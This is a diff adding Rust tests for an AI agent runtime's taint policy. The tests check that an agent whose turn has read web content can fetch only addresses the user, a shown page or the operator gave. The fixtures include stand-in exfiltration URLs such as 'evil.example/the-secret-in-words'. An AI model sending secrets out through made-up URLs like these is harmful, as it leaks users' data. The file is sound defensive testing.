@@ -1,0 +1,73 @@
+//! Which addresses a tainted turn may fetch.
+
+use super::*;
+
+#[test]
+fn a_tainted_turn_fetches_what_the_user_gave_or_a_page_showed_and_nothing_new() {
+    let fetch = |url: &str| serde_json::json!({ "url": url }).to_string();
+    for policy in [TaintPolicy::Deny, TaintPolicy::Approve] {
+        let (mut world, agent) = world(policy);
+        let message = NewMessage::text("compare x.example/a with https://y.example/b?c=1, please");
+        world.ask(PostMessage { agent, session: None, message }).unwrap();
+        model_asks(&mut world, "web_fetch", &fetch("https://x.example/a"));
+        let run = runs(&mut world).remove(0);
+        gives_text(&mut world, &run, Taint::WEB, "see [more](https://z.example/more?page=2)");
+        world.restart();
+        for (url, is_run) in [
+            ("https://y.example/b?c=1", true),
+            ("https://z.example/more?page=2", true),
+            ("https://z.example/more?page=secret", false),
+            ("https://evil.example/the-secret-in-words", false),
+        ] {
+            model_asks(&mut world, "web_fetch", &fetch(url));
+            let mut ran = runs(&mut world);
+            assert_eq!(ran.len() == 1, is_run, "{policy:?} {url}");
+            match (ran.pop(), policy) {
+                (Some(run), _) => gives_text(&mut world, &run, Taint::WEB, "nothing"),
+                (None, TaintPolicy::Approve) => {
+                    let filter = ApprovalFilter { decided: false, agent: None };
+                    let pending = world.ask(ListApprovals { filter, after: None, limit: 9 }).unwrap().items;
+                    let (ids, decision) = (vec![pending[0].id], Decision::Reject);
+                    world.ask(DecideApprovals { ids, decision, reason: None }).unwrap();
+                }
+                (None, _) => {
+                    let told = results(&mut world, agent).pop().unwrap();
+                    assert!(told.contains("this one is new"), "{told}");
+                }
+            }
+        }
+    }
+}
+
+#[test]
+fn an_address_that_the_session_made_up_is_not_known_because_it_came_back() {
+    let (mut world, agent) = world(TaintPolicy::Deny);
+    tainted(&mut world, agent);
+    let made_up = "https://evil.example/secret";
+    // It comes back from a file, as a failure of the tool itself, and through an agent of the same rights.
+    model_asks(&mut world, "file_read", "{}");
+    let run = runs(&mut world).remove(0);
+    gives_text(&mut world, &run, Taint::WEB, made_up);
+    let fetch = serde_json::json!({ "url": made_up }).to_string();
+    model_asks(&mut world, "web_fetch", &fetch);
+    assert!(runs(&mut world).is_empty());
+    let other = world.spawn("b");
+    model_asks(&mut world, "agent_send", r#"{"agent":"b","message":"m"}"#);
+    let run = runs(&mut world).remove(0);
+    let (from, index, to) = (run.attempt, run.index, "b".to_owned());
+    let sent = SendToAgent { from, index, to, session: None, text: made_up.into(), wait: true, found: None };
+    world.ask(sent).unwrap();
+    model_asks(&mut world, "web_fetch", &fetch);
+    assert!(runs(&mut world).is_empty());
+    // What its own instructions say, it may fetch: the operator gave it.
+    let text = format!("name = \"c\"\nsystem_prompt = \"Watch {made_up}.\"\n");
+    let parsed = crate::manifest::parse(&text).unwrap();
+    let hash = crate::manifest::hash(&parsed.manifest);
+    let watcher = crate::agent::SpawnAgent { name: parsed.name, manifest: parsed.manifest, hash, text };
+    let watcher = world.ask(watcher).unwrap().agent;
+    world.calls.clear();
+    tainted(&mut world, watcher);
+    model_asks(&mut world, "web_fetch", &fetch);
+    assert_eq!(runs(&mut world).len(), 1);
+    let _ = other;
+}
